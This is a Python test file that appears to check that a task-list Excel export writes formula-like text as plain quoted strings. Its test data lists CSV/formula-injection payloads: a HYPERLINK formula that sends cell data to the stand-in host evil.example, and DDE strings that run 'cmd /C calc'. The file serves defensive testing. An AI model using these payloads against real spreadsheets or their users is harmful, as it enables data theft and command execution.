"""Exports write any text that could start a formula (= + - @, a tab, a CR) as text: it comes back as the
same text, typed as a string and quote-prefixed, and the workbook holds no formula at all."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from indicators.models import Indicator
from tasks_app.tasklist.export import tasklist_export
from tests.factories import make_task

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&B3,"点击查看详情")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_hostile_cells_are_exported_as_text(office_user, dsj):
    tasks = [make_task(str(n), lead_unit=dsj, title=title) for n, title in enumerate(HOSTILE_TITLES, start=1)]
    Indicator.objects.create(task=tasks[0], name="=1+2", unit="@x", baseline_value=1, target_value=2)

    content = tasklist_export(actor=office_user)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(io.BytesIO(content))
    titles = {row[1].value: row[1] for row in book["任务清单"].iter_rows(min_row=2)}
    for title in HOSTILE_TITLES:
        cell = titles.get(title) or titles[title.lstrip("\t\r")]
        assert cell.data_type == "s" and cell.quotePrefix, title
    indicator_row = next(book["指标体系"].iter_rows(min_row=2))
    assert [indicator_row[1].value, indicator_row[2].value] == ["=1+2", "@x"]
    assert indicator_row[1].data_type == "s"
